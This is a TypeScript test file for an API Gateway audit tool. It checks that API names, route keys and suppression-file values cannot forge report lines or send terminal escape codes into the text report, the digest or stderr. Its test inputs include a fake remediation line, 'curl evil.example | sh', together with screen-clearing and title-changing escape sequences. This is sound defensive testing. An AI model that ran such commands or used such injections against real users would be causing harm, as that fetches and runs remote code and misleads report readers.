import fc from 'fast-check';
import { runAudit } from '../../lib/engine/audit-result';
import type { ClassifiedFinding } from '../../lib/lifecycle/classify-run';
import { apiFromSketch } from '../../lib/model/sketch';
import type { Snapshot } from '../../lib/model/snapshot';
import { buildDigest } from '../../lib/report/digest';
import { formatText } from '../../lib/report/format-text';
import { RULES } from '../../lib/rules';
import { PLAIN_TEXT_REPORT } from '../support/plain-text-report';
import { runCli } from '../support/run-cli';
import { tempFiles } from '../support/temp-files';


/**
 * Issue 12 point 4: anyone who can create an API chooses its name, route keys and response
 * keys. None of them may add a line to the text report or the SNS digest, or reach the
 * reader's terminal as an escape sequence.
 */
const FORGED = '\n\n== CRITICAL ==\n\nfake (x)\n  IR000 fake: all clear\n    Remediation: curl evil.example | sh\x1b[2J\x1b]0;owned\x07\r';

function account(name: string, routeKey: string, responseKey: string): Snapshot {
  return {
    accountId: '123456789012',
    region: 'eu-west-1',
    apis: [
      apiFromSketch({
        ApiId: 'a1',
        Name: name,
        ProtocolType: 'WEBSOCKET',
        RouteSelectionExpression: '$request.body.action',
        integrations: [{ IntegrationType: 'MOCK', integrationResponses: [{ IntegrationResponseKey: responseKey, ResponseParameters: { 'method.response.headr.x': "'v'" } }] }],
        routes: [{ RouteKey: routeKey, Target: 'integrations/i1', RouteResponseSelectionExpression: '$default', routeResponses: [{ RouteResponseKey: routeKey }] }],
      }),
    ],
  };
}

const audit = (snapshot: Snapshot) => runAudit([{ snapshot }], RULES.map((rule) => ({ rule })));

function digestOf(snapshot: Snapshot): string {
  const result = audit(snapshot);
  const findings: ClassifiedFinding[] = result.findings.map((finding) => ({ finding, lifecycle: 'new', firstSeen: '2026-12-01T00:00:00.000Z' }));
  const parts = buildDigest({
    content: { kind: 'findings', findings, tracked: false },
    threshold: 'info',
    summary: result.summary,
    errors: [{ source: 'collector', operation: 'GetRoutes', apiId: 'a1', message: `HTTP 500: ${FORGED}` }],
    unreached: 0,
    accountId: '123456789012',
    regions: ['eu-west-1'],
    startedAt: new Date('2026-12-01T00:00:00Z'),
  });
  return parts.map((part) => `${part.subject}\n${part.message}`).join('\n');
}

const lineCount = (text: string) => text.split('\n').length;
const benign = account('chat', 'ping', '/5\\d\\d/');

test.each([
  ['the text report', (snapshot: Snapshot) => formatText(audit(snapshot), PLAIN_TEXT_REPORT)],
  ['the digest', digestOf],
])('%s: a forged section in a name, a route key and a response key stays on its own line', (_output, render) => {
  const hostile = render(account(`chat${FORGED}`, `ping${FORGED}`, `/5\\d\\d/${FORGED}`));
  expect(hostile).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  expect(hostile.split('\n').filter((line) => /^\s*(== CRITICAL ==|Remediation: curl|IR000)/.test(line))).toEqual([]);
  expect(hostile).toContain('\\n== CRITICAL ==');
});

test('no API name of any characters adds a line to the text report or the digest', () => {
  const textLines = lineCount(formatText(audit(benign), PLAIN_TEXT_REPORT));
  const digestLines = lineCount(digestOf(benign));
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (name) => {
      const snapshot = account(`chat${name}`, 'ping', '/5\\d\\d/');
      expect(lineCount(formatText(audit(snapshot), PLAIN_TEXT_REPORT))).toBe(textLines);
      expect(lineCount(digestOf(snapshot))).toBe(digestLines);
    }),
    { numRuns: 150 },
  );
});

test('no route or response key of any characters adds a line to the text report', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (suffix) => {
      // The key decides which rules fire: each finding is two lines, plus the API heading, a
      // blank line, the summary, the exit line and the final newline (format-text.ts).
      const result = audit(account('chat', `ping${suffix}`, `/5\\d\\d/${suffix}`));
      expect(lineCount(formatText(result, PLAIN_TEXT_REPORT))).toBe(2 * result.findings.length + 5 + result.errors.length);
    }),
    { numRuns: 150 },
  );
});

test('a very long API name is cut with an ellipsis in the report heading', () => {
  const text = formatText(audit(account('n'.repeat(5_000), 'ping', '/5\\d\\d/')), PLAIN_TEXT_REPORT);
  const heading = text.split('\n')[0]!;
  expect(heading).toMatch(/^n+… \(a1, WEBSOCKET, eu-west-1\)$/);
  expect(heading.length).toBeLessThan(120);
});

/**
 * A usage error or a suppression warning quotes a file name or a value from the file, which a
 * pull request can choose (the GitHub Action scans it): escapes are written out there too,
 * and only the line breaks that list several problems remain.
 */
describe('the CLI\'s own errors and warnings on stderr', () => {
  const { file } = tempFiles('report-injection-');
  const HOSTILE = 'x\x1b[2J\x1b]0;owned\x07\ry';
  const rawControl = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

  test('a missing file named with escapes', async () => {
    const { code, stderr } = await runCli('audit', '--snapshot', `missing${HOSTILE}.json`);
    expect(code).toBe(2);
    expect(stderr).toBe('apigw-audit audit: missingx\\x1b[2J\\x1b]0;owned\\x07\\ry.json: cannot read the file: no such file or folder (ENOENT)\n');
  });

  test('a bad suppression file whose values hold escapes and newlines keeps one line per problem', async () => {
    const suppressions = file('hostile-suppressions.json', { suppressions: [{ rule: 'IR004', resource: `arn:aws:apigateway:*::/apis/a1/${HOSTILE}`, reason: 'x', expires: 'soon' }, { rule: `IR0\n== CRITICAL ==`, resource: 'a1', reason: 'x', expires: '2026-12-31' }] });
    const { code, stderr } = await runCli('audit', '--snapshot', 'examples/demo-account.json', '--suppressions', suppressions);
    expect(code).toBe(2);
    expect(stderr).not.toMatch(rawControl);
    expect(stderr.trim().split('\n')).toEqual([
      expect.stringContaining('3 problems:'),
      expect.stringMatching(/^  - suppressions\[0\] \(rule "IR004"\): resource: /),
      expect.stringMatching(/^  - suppressions\[0\] \(rule "IR004"\): expires: /),
      expect.stringMatching(/^  - suppressions\[1\] \(rule "IR0\\n== CRITICAL =="\): rule: /),
    ]);
  });

  test('a stale suppression whose resource holds escapes', async () => {
    // No line break: an ARN pattern cannot hold one.
    const suppressions = file('stale-suppressions.json', { suppressions: [{ rule: 'IR004', resource: 'arn:aws:apigateway:*::/apis/k3chat7ws1/x\x1b[2J\x1b]0;owned\x07y', reason: 'x', expires: '2099-12-31' }] });
    const { stderr } = await runCli('audit', '--snapshot', 'examples/demo-account.json', '--suppressions', suppressions);
    expect(stderr).toContain('matched no finding (stale)');
    expect(stderr).toContain('\\x1b[2J');
    expect(stderr).not.toMatch(rawControl);
  });
});
